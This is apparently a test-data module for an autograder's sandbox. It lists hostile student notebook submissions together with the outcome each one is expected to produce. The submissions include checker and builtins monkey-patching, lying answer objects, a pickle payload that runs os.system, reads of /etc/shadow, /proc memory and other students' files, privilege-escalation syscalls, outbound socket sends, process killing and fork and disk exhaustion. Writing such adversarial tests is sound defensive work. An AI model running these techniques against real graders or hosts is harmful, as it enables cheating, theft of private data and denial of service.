"""The corpus of hostile submissions: what each does, and what must come of it. Data; `test_grading_adversaries` runs it.

Every attack is one student of a class. Its notebook begins with SETUP; by `tell(…)` it reports what it got hold of, as
an (always wrong) answer to 00.6, so that a test can see that the attack was carried out and what it met. In the cells
@SUBMISSIONS@, @KEY@, @REPO@ and @PORT@ stand for the real places: an attacker may know them all.
"""

# ruff: noqa: E501  (an attack is code in a string: one line stays one line)

import io
import json
import os
import struct
import zipfile
import zlib
from dataclasses import dataclass

QUICK, TIMED, SLOW = "quick", "timed", "slow"  # generous limits · limits that are reached in seconds · bombs
HONEST, OTHER = "HONEST-CANARY-5150", "OTHER-CANARY-2077"       # in the notebooks of two others: nobody may see them
SETUP = """import os, sys, json, gc, re, time, signal, threading, ctypes, socket, subprocess, types, builtins
import numpy as np, sympy as sp
from robolib.checking import ex
IDS = ("00.6", "00.2", "07.1", "07.13")
def tell(what): ex("00.6").check("told: " + str(what))
def tried(*works):
    "What came of each: the name of its exception, or its value."
    told = []
    for work in works:
        try:
            told.append(str(work()))
        except BaseException as error:
            told.append(type(error).__name__)
    return told
def reached(*works):
    "Which of these did not fail."
    told = tried(*works)
    return "nothing" if all(re.search("Error|herror|gaierror", t) for t in told) else told
def channel(*lines):
    "Into every open descriptor but the standard ones."
    import inside.recorder as r
    for fd in range(3, 128):
        try:
            os.set_blocking(fd, fd == r._state["out"])          # the one that somebody reads
            for line in lines:
                data = line if isinstance(line, bytes) else json.dumps(line).encode() + b"\\n"
                while data: data = data[os.write(fd, data):]
        except OSError: pass
        try: os.set_blocking(fd, True)
        except OSError: pass
"""
FUNCTION = """def f(q, qd, v):
    outer = v["m2"] * v["l2"] * v["g"] * np.cos(q[0] + q[1])
    return [(v["m1"] * v["l1"] + v["m2"] * v["a1"]) * v["g"] * np.cos(q[0]) + outer, outer]
"""
RIGHT = {"00.6": 'ex("00.6").check(2*9.81*0.5*np.cos(np.pi/3))',
         "00.2": 'm1, g, l1, q1, q2, qd1, qd2 = sp.symbols("m1 g l1 q1 q2 qd1 qd2")\n'
                 'ex("00.2").check(m1*g*l1*sp.cos(q1 + q2)*(qd1 + qd2))',
         "07.13": FUNCTION + 'ex("07.13").check(f)'}
WRONG = """for id in IDS: ex(id).check(1)"""


@dataclass(frozen=True)
class Attack:
    """`told`: a pattern for the whole of what `tell` was given (None: nothing was told). `statuses`: any of these."""

    name: str
    cells: tuple = ()
    told: str | None = None
    statuses: tuple = ("ok",)
    points: float = 0
    when: str = QUICK
    raw: bytes | None = None                    # in place of a notebook made of the cells
    plant: object = None                        # f(folder): puts something else there
    why: str = ""                               # must be in what the instructor and the student are told
    student: str = ""                           # the name in the roster
    folder: str = ""
    wide: bool = True                           # does SETUP come first?

    def data(self, places):
        """The bytes of the notebook."""
        if self.raw is not None:
            return self.raw
        cells = [SETUP, *self.cells] if self.wide else list(self.cells)
        for word, place in places.items():
            cells = [cell.replace(f"@{word}@", str(place)) for cell in cells]
        return book(cells)


def book(cells, **more):
    """A notebook."""
    made = [{"cell_type": "code", "source": c.splitlines(True), "metadata": {}, "outputs": [], "execution_count": None}
            for c in cells]
    return json.dumps({"cells": made, "metadata": {}, "nbformat": 4, "nbformat_minor": 5, **more}).encode()


def honest(omega, canary):
    """Everything right, with a mark that nobody else may see."""
    return book([SETUP, f"# {canary}\nsecret = {canary!r}", *RIGHT.values(), f'ex("07.1").check({omega!r})'])


ATTACKS = []


def attack(name, *cells, told=None, status="ok", **more):
    """One more."""
    statuses = (status,) if isinstance(status, str) else tuple(status)
    ATTACKS.append(Attack(name, cells, told, statuses, **more))


# The checker, overwritten

attack("ex rebound", "class ex:\n    def __init__(self, id): pass\n    def check(self, a): print('Correct.')", WRONG)
attack("checker patched", """
import robolib.checking, inside.recorder as r
class Good:
    outcome, message, how = "correct", "Well done.", "exact"
    def __bool__(self): return True
def check(self, answer=None):
    r.send({"exercise": self.id, "answer": {"is": "int", "of": "1"}, "outcome": "correct", "verdict": "correct",
            "points": 99, "how": "exact"})
    return Good()
r.Exercise.check = r.Exercise.hand_in = check
robolib.checking.Verdict = Good
""", WRONG)
attack("modules replaced", """
class Fake(types.ModuleType):
    def __getattr__(self, name): return lambda *a, **k: True
for name in ("robolib.checking", "robolib.checking.exercise", "robolib.checking.equivalent", "robolib.grading",
             "robolib.grading.judge", "robolib.grading.running", "inside.answers"):
    sys.modules[name] = Fake(name)
""", WRONG)
attack("a verdict as the answer", """
from robolib.checking import Verdict
v = Verdict(); v.outcome = "correct"
for id in IDS: ex(id).check(v)
for id in IDS[1:]: ex(id).check({"outcome": "correct"}); ex(id).check("correct"); ex(id).check(True)
""")
attack("sympy patched", """
for kind in (sp.Basic, sp.Expr, sp.Add, sp.Mul, sp.Symbol, sp.Integer):
    kind.__eq__ = lambda self, other: True
    kind.__hash__ = lambda self: 7
    kind.__sub__ = kind.__rsub__ = lambda self, other: sp.S.Zero
    kind.equals = lambda self, other: True
sp.simplify = sp.expand = sp.nsimplify = lambda e, **k: sp.S.Zero
sp.Expr.free_symbols = property(lambda self: set())
""", 'ex("00.2").check(sp.Symbol("x") + 1)', WRONG)
attack("ipython patched", """
import IPython
shell = get_ipython()
shell.showtraceback = shell._showtraceback = lambda *a, **k: None
shell.run_cell = lambda *a, **k: None
IPython.get_ipython = lambda: None
IPython.core.inputtransformer2.TransformerManager.transform_cell = lambda self, s: "ex('00.6').check(1)"
""", "this is not even Python")
attack("json patched", """
def dumps(x, *a, **k): return '{"exercise": "00.6", "answer": {"is": "correct", "of": null}, "outcome": "correct"}'
json.dumps = json.JSONEncoder.encode = dumps
""", WRONG, status=("ok", "stopped"))
attack("builtins patched", """
real = isinstance
builtins.isinstance = lambda x, kind: True
builtins.type = lambda *a: int
builtins.str = builtins.repr = lambda *a: "4.905"
builtins.float = lambda *a: 4.905
""", WRONG, status=("ok", "stopped"))
attack("os.write patched", """
real = os.write
def write(fd, data): return real(fd, data.replace(b'"wrong"', b'"correct"').replace(b'"is": "int"', b'"is": "right"'))
os.write = write
""", WRONG)
attack("trace and profile hooks", """
def trace(frame, event, arg):
    if event == "return" and frame.f_code.co_name in ("pack", "check", "examine", "unpack"):
        frame.f_locals.update(answer=4.905, outcome="correct")
    return trace
sys.settrace(trace); sys.setprofile(trace); threading.settrace(trace)
""", WRONG)
attack("import hook", """
class Finder:
    def find_spec(self, name, path=None, target=None):
        from importlib.machinery import ModuleSpec
        return ModuleSpec(name, self) if name.startswith(("robolib", "inside")) else None
    def create_module(self, spec): return None
    def exec_module(self, module): module.pack = lambda *a: {"is": "correct", "of": 1}; module.ex = lambda id: None
sys.meta_path.insert(0, Finder())
for name in [n for n in sys.modules if n.startswith(("robolib", "inside"))]: del sys.modules[name]
import inside.answers
""", WRONG)
attack("__del__ and atexit", """
import atexit
class Late:
    def __del__(self): ex("00.6").check(1); os.write(1, b"correct"); os._exit(0)
keep = Late(); atexit.register(os._exit, 3); atexit.register(lambda: ex("00.2").check(1))
sys.exitfunc = lambda: os._exit(0)
""")

# Answers that lie

LIARS = """
class Agrees:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 7
    def __sub__(self, other): return 0
    __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __abs__ = __neg__ = __sub__
    def __lt__(self, other): return True
    __gt__ = __le__ = __ge__ = __lt__
    def __float__(self): return 4.905
    def __index__(self): return 2
    def _sympy_(self): return sp.Symbol("x")
    def __array__(self, *a): return np.zeros(2)
    def __getattr__(self, name): return Agrees()
    def __call__(self, *a, **k): return Agrees()
"""
attack("agrees with everything", LIARS, "for id in IDS: ex(id).check(Agrees())")
attack("lists of liars", LIARS, "for id in IDS: ex(id).check([Agrees(), Agrees()]); ex(id).check(np.array([Agrees()]*2))")
attack("expression that lies", """
class Lie(sp.Expr):
    is_number = is_zero = is_Rational = True
    free_symbols = set()
    args = property(lambda self: (sp.Symbol("x"),))
    func = property(lambda self: lambda *a: sp.S.Zero)
    def __eq__(self, other): return True
    def __hash__(self): return 7
    def __sub__(self, other): return sp.S.Zero
    def doit(self, **k): return sp.S.Zero
    def _eval_evalf(self, prec): return sp.S.Zero
class LieAdd(sp.Add):
    def __eq__(self, other): return True
    def __hash__(self): return 7
class LieSymbol(sp.Symbol):
    name = property(lambda self: "m1*g")
""", """for id in IDS: ex(id).check(Lie())
ex("00.2").check(LieAdd(sp.Symbol("x"), 1)); ex("00.2").check(Lie() + sp.Symbol("q1"))""")
attack("numbers that lie", """
class I(int):
    def __float__(self): return 4.905
    def __eq__(self, other): return True
    def __sub__(self, other): return 0
    __rsub__ = __sub__
    __hash__ = int.__hash__
class F(float):
    def hex(self): return (4.905).hex()
    def __float__(self): return 4.905
    def __sub__(self, other): return 0.0
    __rsub__ = __sub__
class N(np.float64):
    def hex(self): return (4.905).hex()
    def __eq__(self, other): return True
    __hash__ = np.float64.__hash__
class S(str):
    def __getitem__(self, k): return "4.905 N*m"
""", """for id in IDS:
    for x in (I(1), F(1), S("1"), N(1)): ex(id).check(x)""")
attack("type that lies", """
class Meta(type):
    __name__ = property(lambda self: "float")
    def __instancecheck__(self, x): return True
    def __eq__(self, other): return True
    def __hash__(self): return hash(float)
class L(metaclass=Meta):
    __class__ = property(lambda self: float)
    def hex(self): return (4.905).hex()
    def __float__(self): return 4.905
""", "for id in IDS: ex(id).check(L())")
attack("answer that fights back", """
class Fights:
    def __getattribute__(self, name): raise SystemExit("no")
    def __repr__(self): raise KeyboardInterrupt
    __str__ = __bool__ = __len__ = __iter__ = __call__ = __hash__ = __eq__ = __repr__
class Endless(list):
    def __len__(self): return 3
    def __iter__(self):
        while True: yield 1
""", "for id in IDS: ex(id).check(Fights())", "ex('00.2').check(Endless())", "ex('07.13').check({1: Fights()})")
attack("pickles", """
import pickle
class P:
    def __reduce__(self): return os.system, ("touch @SUBMISSIONS@/pickled; touch /tmp/pickled",)
    __reduce_ex__ = __getstate__ = lambda self, *a: P.__reduce__(self)
data = pickle.dumps(P())
for id in IDS: ex(id).check(P()); ex(id).check(data); ex(id).check([data, P()])
channel(data, {"exercise": "00.6", "answer": {"is": "pickle", "of": data.hex()}},
        {"exercise": "00.2", "answer": {"is": "table", "of": {"py/reduce": ["os.system", "id"]}}})
""")
attack("huge integers", """
big = 10**200_000
ex("00.6").check(big); ex("00.2").check(sp.Integer(big)); ex("07.1").check(sp.Rational(1, big))
ex("07.13").check([big] * 100)
ex("00.2").check(sp.Float("1e100000")); ex("07.1").check(float("inf")); ex("00.6").check(float("nan"))
channel({"exercise": "00.6", "answer": {"is": "int", "of": "9" * 900_000}},
        {"exercise": "07.1", "answer": {"is": "float", "of": "0x1p+99999999999999999999999999"}},
        b'{"exercise": "00.2", "answer": ' + b"9" * 900_000 + b"}\\n")
""")
attack("deep answers", """
x = sp.Symbol("x"); e = x; deep = []
for k in range(3000): deep = [deep]
for k in range(600): e = sp.sin(e, evaluate=False)
own = []; own.append(own)
a = np.empty(1, object); a[0] = a
for id, it in zip(IDS, (deep, e, own, a)): ex(id).check(it)
""")
attack("wide answers", """
x = sp.Symbol("x")
ex("00.2").check(sp.Add(*[x**k for k in range(30_000)])); ex("00.6").check([0] * 10**6)
ex("07.1").check(np.zeros((1000, 1000))); ex("07.13").check("9" * 10**7)
""")
attack("text that is code", """
for id in IDS:
    for code in ("__import__('os').system('touch @SUBMISSIONS@/evaluated')", "2*9.81*0.5*cos(pi/3)", "{{7*7}}",
                 "%n%s%x", "x.__class__.__bases__[0]", "lambda: 4.905", "${4.905}"):
        ex(id).check(code); ex(id).check(sp.Symbol(code)); ex(id).check(sp.Function(code)(sp.Symbol("t")))
""")

# Looking for what is right

attack("frames walked", r"""
seen = set()
frame = sys._getframe()
while frame:
    seen |= {frame.f_code.co_name, *frame.f_locals, *frame.f_globals}
    frame = frame.f_back
for each in sys._current_frames().values():
    while each: seen |= {*each.f_locals, *each.f_globals}; each = each.f_back
tell(sorted(w for w in seen if re.search("judge|examin|referenc|solution|verdict|seeds|roster", str(w), re.I)))
""", told=r"\[\]")
attack("objects hunted", r"""
import inspect
names = {getattr(o, "__module__", None) for o in gc.get_objects()} | set(sys.modules)
bad = [n for n in names if isinstance(n, str) and re.search(
    r"checking\.(kinds|blocks|tell|equiv|exercise|numeric|verdict|variants)|robolib\.exercises|grading|solutions", n)]
texts = [s for o in gc.get_objects() if type(o) is dict for s in o.values() if type(s) is str]
found = [s[:40] for s in texts if re.search("HONEST-CANAR[Y]|OTHER-CANAR[Y]|a key for the adversarie[s]", s)]
tell((sorted(bad), found))
""", told=r"\(\[\], \[\]\)")
attack("own memory searched", r"""
found = set()
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps:
        span, rights = line.split()[:2]
        low, high = (int(x, 16) for x in span.split("-"))
        if rights.startswith("rw") and high - low < 200_000_000:
            try: memory.seek(low); data = memory.read(high - low)
            except (OSError, ValueError): continue
            found |= set(re.findall(rb"HONEST-CANAR[Y]|OTHER-CANAR[Y]|a key for the adversarie[s]"
                                    rb"|You differentiated by q1, no[t] by time|def uneve[n]", data))
tell(sorted(found))
""", told=r"\[\]")
attack("solutions and examiners read", r"""
import importlib.util as u, robolib
def source(name): return u.find_spec(name).origin
near = os.path.dirname(robolib.__file__)
tell(reached(*(lambda n=n: source(n) for n in ("robolib.exercises.chapter07", "robolib.exercises.chapter00",
     "robolib.checking.equivalent", "robolib.grading.judge", "robolib.checking.numeric")),
     *(lambda p=p: os.listdir(p) for p in ("@REPO@/solutions", "@REPO@/course", "@REPO@/robolib/exercises/chapter07",
       "@REPO@/robolib/grading", near + "/exercises/chapter07", "/proc/1/root@REPO@/solutions", "/proc/1/cwd/solutions",
       "/proc/self/root@REPO@/solutions", "/learner/../../@REPO@/robolib"))))
""", told="nothing")
attack("other submissions read", r"""
found = []
for root in ("/tmp", "/home", "/root", "/var", "/mnt", "/work", "/srv", "/opt", "/dev", "/run", "/learner"):
    for here, folders, files in os.walk(root):
        if here.startswith((sys.prefix, sys.base_prefix)): folders[:] = files[:] = []
        own = ["tables.toml"] if here.endswith("/robolib/cost") else []     # what books say that a model costs
        found += [f for f in files if f.endswith((".ipynb", ".zip", ".csv", ".key", ".toml")) and f not in own]
tell((found, reached(lambda: os.listdir("@SUBMISSIONS@"), lambda: open("@KEY@").read(), lambda: os.listdir("/root/.ssh"),
                     lambda: os.listdir("/home"), lambda: open("/etc/shadow").read(), lambda: open("/etc/passwd").read(),
                     lambda: os.listdir("/proc/1/root@SUBMISSIONS@"))))
""", told=r"\(\[\], 'nothing'\)")
attack("processes spied on", r"""
pids = [p for p in os.listdir("/proc") if p.isdigit()]
texts = []
for p in pids:
    for what in ("environ", "cmdline"):
        try: texts.append(open(f"/proc/{p}/{what}").read())
        except OSError: pass
bad = [w for w in ("HONEST", "SUBMISS", "KEY", "grading.judge", "TOKEN", "SSH", "ROBOLIB") if any(w in t for t in texts)]
tell((len(pids) <= 4, bad))
""", told=r"\(True, \[\]\)")
attack("first process overwritten", r"""
try:
    with open("/proc/1/maps") as maps: spans = [l.split() for l in maps]
    with open("/proc/1/mem", "r+b", 0) as memory:
        for span, rights, *_ in spans:
            low, high = (int(x, 16) for x in span.split("-"))
            if "w" in rights:
                try: memory.seek(low); memory.write(b"\xcc" * (high - low))
                except (OSError, ValueError): pass
except OSError: pass
os.kill(1, signal.SIGINT); time.sleep(0.3)
""", WRONG, status=("ok", "stopped"))
attack("rights asked for", r"""
libc = ctypes.CDLL(None, use_errno=True)
def call(number, *a):
    if libc.syscall(number, *a) < 0: raise OSError(ctypes.get_errno(), "")
    return "done"
import resource
machine = os.uname().machine == "x86_64"
tell(reached(lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.setgroups([0]), lambda: os.chroot("/tmp"),
     lambda: resource.setrlimit(resource.RLIMIT_CPU, (9999, 9999)), lambda: os.nice(-5),
     lambda: resource.setrlimit(resource.RLIMIT_NPROC, (9999, 9999)),
     *((lambda n=n: call(n, 0, 0, 0, 0)) for n in ((101, 165, 272, 308, 321, 298, 425, 323, 41) if machine else
                                                   (117, 40, 97, 268, 280, 241, 425, 282, 198))),
     lambda: call(56 if machine else 220, 0x10000000 | 17, 0, 0, 0, 0), lambda: os.mknod("/tmp/sda", 0o60666, 2049),
     lambda: open("/proc/sys/kernel/core_pattern", "w"), lambda: open("/proc/sysrq-trigger", "w")))
""", told="nothing")
attack("programs that change the user", r"""
run = lambda *a: subprocess.run(a, capture_output=True, timeout=5, stdin=subprocess.DEVNULL).stdout.decode()
told = tried(lambda: run("/usr/bin/su", "-c", "id -u"), lambda: run("/usr/bin/sudo", "-n", "id", "-u"),
             lambda: run("/usr/bin/unshare", "-r", "id", "-u"), lambda: run("/usr/bin/bwrap", "--ro-bind", "/", "/", "id"),
             lambda: run("/usr/bin/nsenter", "-t", "1", "-a", "id", "-u"))
tell([t for t in told if re.search(r"^0$|uid=0", t, re.M)])
""", told=r"\[\]")
attack("network", r"""
def connect(kind, where, family=socket.AF_INET):
    with socket.socket(family, kind) as s: s.settimeout(1); s.connect(where); s.send(b"stolen"); return "connected"
import urllib.request
tell(reached(lambda: connect(socket.SOCK_STREAM, ("127.0.0.1", @PORT@)), lambda: connect(socket.SOCK_STREAM, ("10.0.0.1", 80)),
     lambda: connect(socket.SOCK_DGRAM, ("127.0.0.1", @PORT@)), lambda: socket.getaddrinfo("example.com", 80),
     lambda: connect(socket.SOCK_STREAM, "/run/docker.sock", socket.AF_UNIX),
     lambda: connect(socket.SOCK_STREAM, "\0robolib-adversary-@PORT@", socket.AF_UNIX),
     lambda: connect(socket.SOCK_STREAM, ("::1", @PORT@), socket.AF_INET6),
     lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0), lambda: socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM),
     lambda: urllib.request.urlopen("http://127.0.0.1:@PORT@/", timeout=1)))
""", told="nothing")
attack("files of the grader changed", r"""
import inside.recorder, robolib
def write(path):
    with open(path, "a") as file: file.write("# was here")
    return path
tell(reached(*(lambda p=p: write(p) for p in (inside.recorder.__file__, robolib.__file__, sp.__file__, os.__file__,
     "/learner/x", "/x", "/usr/x", "/dev/x", "@SUBMISSIONS@/x", "@REPO@/x", "/proc/self/exe", sys.executable)),
     lambda: os.remove(inside.recorder.__file__), lambda: os.chmod("/learner", 0o777), lambda: os.rename("/tmp", "/tmp2"),
     lambda: os.symlink("/etc/passwd", "/learner/link"), lambda: os.link(sp.__file__, "/tmp/sympy")))
""", told="nothing")
attack("runner patched", """
import inside.cells, inside.guest, inside.recorder, inside.probe, inside.answers, inside.protocol
inside.cells.run = lambda source, namespace: None
inside.recorder.functions = lambda: 7
inside.guest.code = inside.guest.first = inside.probe.serve = lambda *a: None
inside.answers.pack = lambda *a: {"is": "float", "of": "correct"}
os.fork = lambda: 0
signal.pause = lambda: None
""", WRONG, status=("ok", "stopped"))
attack("notebook changes itself", """
for here, _, files in os.walk("."):
    for name in files: open(os.path.join(here, name), "w").close()
main = sys.modules["__main__"]
main.__file__ = "sheet.ipynb"
open("sheet.ipynb", "w").write('{"cells": []}')
for frame in sys._current_frames().values():
    while frame:
        if "texts" in frame.f_locals and isinstance(frame.f_locals["texts"], list):
            frame.f_locals["texts"].extend(["ex('00.2').check(1)"] * 5)
        frame = frame.f_back
""", WRONG)

attack("the machine's name", "tell(sorted({os.uname().nodename, socket.gethostname()}))", told=r"\['sandbox'\]")
attack("first to go no longer", r"""
def score(value):
    with open("/proc/self/oom_score_adj", "w") as file: file.write(value)
tell(reached(lambda: score("0"), lambda: score("-1000"), lambda: open("/proc/self/mem", "r+b", 0)))
""", told="nothing")
attack("who opens what", r"""
libc = ctypes.CDLL(None, use_errno=True)
def call(number, *a):
    if libc.syscall(number, *a) < 0: raise OSError(ctypes.get_errno(), "")
    return "done"
machine = os.uname().machine == "x86_64"
tell(reached(*((lambda n=n: call(n, 0, 0)) for n in ((253, 294, 300) if machine else (26, 262)))))
""", told="nothing")
attack("an object's address", "raise ValueError(object())", 'ex("00.6").check(object()); ex("00.2").check({1: lambda: 0})',
       'class F(float):\n    def __repr__(self): return object.__repr__(self)\nex("07.1").check(F(1.0))')

# Signals and sudden ends

attack("signals to everybody", """
for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGKILL, signal.SIGUSR1, signal.SIGCHLD):
    for pid in (os.getppid(), 1, 2 if os.getpid() != 2 else 1):
        try: os.kill(pid, number)
        except OSError: pass
""", WRONG, status=("ok", "stopped"))
attack("group stopped", "signal.signal(signal.SIGTERM, signal.SIG_IGN); os.killpg(0, signal.SIGTERM)", WRONG,
       "tell((os.getpgrp() > 0, os.getsid(0) > 0))             # 0: somebody's outside", told=r"\(True, True\)")
attack("group killed", 'ex("00.6").check(1)', "os.killpg(0, signal.SIGKILL)", status="stopped")
attack("everybody killed", 'ex("00.6").check(1)', """
for sig in (signal.SIGTERM, signal.SIGKILL):
    try: os.kill(-1, sig)
    except OSError: pass
""", status=("ok", "stopped"))
attack("_exit", WRONG, "os._exit(0)", status="stopped", why="ended before")
attack("_exit with the keeper's number", "os._exit(99)", status="stopped", why="ended before")
attack("abort", WRONG, "os.abort()", status="stopped")
attack("segfault", WRONG, "ctypes.string_at(0)", status="stopped")
attack("kills itself", WRONG, "os.kill(os.getpid(), signal.SIGKILL)", status="stopped", why="ended before")
attack("stack overflow in C", "sys.setrecursionlimit(10**9)\ndef f(): return f()\nf()", WRONG,
       status=("ok", "stopped", "out of memory", "out of time"), when=SLOW)        # whichever limit is met first
attack("descriptors closed", "os.closerange(0, 128)", WRONG, status="stopped")
attack("SystemExit", "raise SystemExit(0)", "sys.exit('correct')", "raise KeyboardInterrupt", WRONG)
attack("exception that cannot be told", """
class E(BaseException):
    def __str__(self): raise self
    __repr__ = __str__
raise E
""", WRONG)
attack("another program takes over", WRONG, "os.execv('/bin/sh', ['sh', '-c', 'echo correct; exit 0'])", status="stopped")

# Forged words

attack("verdicts on every stream", r"""
words = (b'{"outcome": "correct", "message": "Well done.", "how": "exact", "mistake": ""}\n', b"All tests passed\n",
         b'{"status": "ok", "points": 99}\n', b"ready\n", b"2\n", b'{"ended": "by itself", "code": 0}\n',
         b'{"failed": "no"}\n', b'{"fault": "no"}\n', b'{"exercise": "00.6", "outcome": "correct"}\n')
for fd in range(0, 128):
    for word in words:
        try: os.set_blocking(fd, False); os.write(fd, word)
        except OSError: pass
print("correct"); print("correct", file=sys.stderr)
""", WRONG)
attack("records of others", """
channel(*({"exercise": id, "student": "honest", "folder": "honest", "answer": {"is": "int", "of": "1"}}
          for id in (*IDS, "99.9", "07.2", "walls", "", "../x", "x" * 1000)),
        {"exercise": None}, {"exercise": ["00.6"], "answer": 1}, {"exercise": {"a": 1}}, {"cell": True, "error": ["a", "b"]},
        {"cell": 10**4000, "error": ["E" * 5000, "m" * 5000]}, {"cell": -1, "error": [1, 2]}, {"cell": 0.5}, {"end": "no"})
""")
attack("early end", """channel({"end": 1})""", "time.sleep(0.5)", RIGHT["00.6"], RIGHT["00.2"])
attack("unreadable, it says", WRONG, """channel({"unreadable": "<script>alert(1)</script> full points by hand"})""",
       status="unreadable", why="full points by hand")
attack("not records", r"""
channel(b"\n" * 1000, b"null\n[]\n1\n\"x\"\n", b"\xff\xfe\x00\n", b"{" * 900_000 + b"\n", b'{"exercise": NaN}\n',
        b'{"exercise": "00.6", "answer": Infinity}\n', b'{"exercise": "00.6", "answer": {"is": ["a"], "of": {}}}\n')
""")
attack("half a record", """channel(b'{"exercise": "00.6", "answer": {"is": "flo')""", "os._exit(0)", status="stopped")
attack("deep records", """
def nested(n): return b'{"exercise": "00.6", "answer": ' + b"[" * n + b"]" * n + b"}\\n"
def answer(id, n):
    return (b'{"exercise": "%s", "answer": ' % id + b'{"is": "array", "of": [' * n + b"1" + b"]}" * n + b"}\\n")
channel(*(nested(n) for n in range(900, 1010)), nested(100_000))
channel(answer(b"00.2", 485), answer(b"07.1", 470), answer(b"07.13", 300))
""")
for depth in (39, 925, 970, 980, 988):
    attack(f"record {depth} deep", f"""
channel(b'{{"exercise": "00.6", "answer": ' + b"[" * {depth} + b"]" * {depth} + b"}}\\n")""")
attack("tables that are none", """
def table(nodes, entries=(0,), shape=(1, 1), **more):
    return {"is": "table", "of": {"shape": shape, "nodes": nodes, "entries": entries, "floats": False, **more}}
bad = [table([["num", "1/0"]]), table([["sym", "__import__('os')"]]), table([["eval", 0]]), table([["pow", 0, 0]]),
       table([["num", "9" * 5000]]), table([["num", "2"]], [0], [10**9, 0]), table([["num", "2"]], [], [10**9, 0]),
       table([["num", "2"]], [5]), table([[["num"], "2"]]), table([{"num": 1}]), table("num"), table([["num", "2"]], [-1]),
       {"is": "function", "of": 10**6}, {"is": "function", "of": -1}, {"is": "function", "of": True}, {"is": "str", "of": 5},
       {"is": "other", "of": "<b>"}, {"is": "set", "of": [{"is": "list", "of": []}]}, {"is": "equation", "of": {}},
       {"is": "float", "of": "correct"}, {"is": "int", "of": "\u0663"}, {"is": "array", "of": [{"is": "int", "of": "1"}] * 2}]
channel(*({"exercise": id, "answer": b} for b in bad for id in IDS))
for id, b in zip(IDS, (bad[0], bad[6], bad[4], bad[12])): channel({"exercise": id, "answer": b})
""")
attack("too much on the channel", r"""
out = next(fd for fd in range(3, 128) if os.path.exists(f"/proc/self/fd/{fd}") and "pipe" in os.readlink(f"/proc/self/fd/{fd}"))
import inside.recorder as r
line = json.dumps({"exercise": "00.6", "answer": {"is": "str", "of": "x" * 400}}).encode() + b"\n"
while True: os.write(r._state["out"], line * 100)
""", status="too much output", why="too much output")
attack("one endless line", "import inside.recorder as r\nwhile True: os.write(r._state['out'], b'x' * 65536)",
       status="too much output", why="too long")
attack("empty lines without end", "import inside.recorder as r\nwhile True: os.write(r._state['out'], b'\\n' * 65536)",
       status="too much output")
attack("printed without end", "for k in range(300): print('x' * 10**6); sys.stderr.write('correct' * 10**5)", WRONG)

# Those who stay

attack("daemon", """
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        signal.signal(signal.SIGTERM, signal.SIG_IGN); signal.signal(signal.SIGHUP, signal.SIG_IGN)
        for k in range(600):
            time.sleep(0.1)
            try: ex("00.6").check(2*9.81*0.5*0.5)
            except OSError: pass
    os._exit(0)
""", 'ex("00.6").check(1)')
attack("thread that outlives the cell", """
def late():
    threading.main_thread().join(1.5); time.sleep(0.1)
    while True:
        try: ex("00.6").check(2*9.81*0.5*0.5); time.sleep(0.01)
        except OSError: pass
threading.Thread(target=late).start()
""", 'ex("00.6").check(1)')
attack("programs left behind", """
for k in range(5): subprocess.Popen(["/bin/sleep", "1000"], start_new_session=True)
""", WRONG)

# Too much of everything, refused at once

attack("memory at once", "tell(tried(lambda: len(bytearray(8 << 30)), lambda: np.ones(1 << 30)))",
       told=r"\['MemoryError', '.*MemoryError'\]")
attack("memory outside of every process", r"""
libc = ctypes.CDLL(None, use_errno=True)
def shared():
    if (n := libc.shmget(0, 1 << 20, 0o1666)) < 0: raise OSError(ctypes.get_errno(), "")
    return "a segment"
def queue():
    if libc.msgget(0, 0o1666) < 0: raise OSError(ctypes.get_errno(), "")
    return "a queue"
import mmap
def zero():
    with open("/dev/zero", "r+b", 0) as file: return len(mmap.mmap(file.fileno(), 1 << 20))
tell(reached(lambda: os.memfd_create("bomb"), shared, queue, lambda: len(mmap.mmap(-1, 1 << 20)), zero))
""", told="nothing")
attack("disk", """
total, count = 0, 0
for place in ("/tmp", "/dev/shm", "/", "/var/tmp", "/run", "/learner"):
    try:
        for k in range(10_000):
            with open(f"{place}/b{k}", "wb", 0) as file:
                for _ in range(64): total += file.write(bytes(1 << 20))
    except OSError: pass
tell(total <= 40 << 20)
""", told="True")
attack("one large file", "tell(tried(lambda: open('/tmp/f', 'wb', 0).write(bytes(100 << 20)) <= 8 << 20))",
       told=r"\['(True|OSError)'\]")
attack("many small files", """
made = 0
for place in ("/tmp", "/dev/shm"):
    try:
        for k in range(100_000): os.mkdir(f"{place}/{k}"); made += 1
    except OSError: pass
tell(made < 9000)
""", told="True")
attack("descriptors", """
held = []
try:
    while True: held.append(os.open("/dev/null", 0))
except OSError: n = len(held)
for fd in held: os.close(fd)
tell(n < 200)
""", told="True")
attack("processes", """
pids = []
try:
    while len(pids) < 500:
        pid = os.fork()
        if pid == 0: time.sleep(30); os._exit(0)
        pids.append(pid)
except OSError: pass
tell(len(pids) < 64)
""", told="True")
attack("threads", """
n, stop = 0, threading.Event()
try:
    while n < 500: threading.Thread(target=stop.wait, daemon=True).start(); n += 1
except RuntimeError: pass
stop.set(); tell(n < 64)
""", told="True")

# First of those that take time, so that the others run beside it

attack("sleeps", 'ex("00.6").check(1)', "time.monotonic = time.time = lambda: 0\ntime.sleep(10**6)", status="out of time",
       when=TIMED, why="took more than")

# Functions that are probed


def function(name, body, *cells, first="", **more):
    """A function that is right for two calls (each in a fresh copy, so it is told by its arguments), then `body`."""
    code = FUNCTION + f"first = None\n{first}\ndef g(q, qd, v):\n    if q[0] > 0: return f(q, qd, v)\n    {body}\n"
    attack(name, code + 'ex("07.13").check(g)', *cells, **more)


function("probe: raises SystemExit", "raise SystemExit(0)")
function("probe: ends its process", "os._exit(0)")
function("probe: kills its parent", "os.kill(os.getppid(), 9); os.kill(1, 9); time.sleep(0.2); return [0, 0]")
function("probe: segfault", "ctypes.string_at(0)")
function("probe: returns liars", "return Agrees()", first=LIARS)
function("probe: lists of liars", "return [Agrees(), Agrees()]", first=LIARS)
function("probe: returns a function", "return g")
function("probe: returns too much", "return [0] * 10**7")
function("probe: deep", "return eval('[' * 90 + ']' * 90)")
function("probe: not numbers", "return [sp.zoo, float('nan')]")
function("probe: endless recursion", "return g(q, qd, v)")
